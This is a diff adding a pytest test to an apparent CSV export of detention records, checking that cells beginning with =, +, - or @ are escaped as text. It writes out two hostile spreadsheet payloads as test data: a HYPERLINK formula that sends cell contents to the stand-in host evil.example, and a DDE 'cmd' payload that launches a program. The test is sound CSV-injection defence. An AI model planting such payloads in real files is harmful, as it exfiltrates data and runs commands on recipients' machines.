@@ -255,3 +255,17 @@ def test_csv_quotes_commas_quotes_and_keeps_cyrillic() -> None:
     [row] = _rows(_detention(summary=summary, location=Place("Шымкент", "KZ", precision="city")))
     assert row["notes"] == summary
     assert row["location"] == "Шымкент"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    event = _detention(
+        summary=hostile, actors=(Actor(f"{start}cmd|' /C calc'!A0", "police", "perpetrator"),)
+    )
+
+    [row] = _rows(event)
+
+    assert row["notes"] == "'" + hostile
+    assert row["actor1"].startswith(f"'{start}cmd")
+    assert row["latitude"] == "42.3"  # numbers are left alone
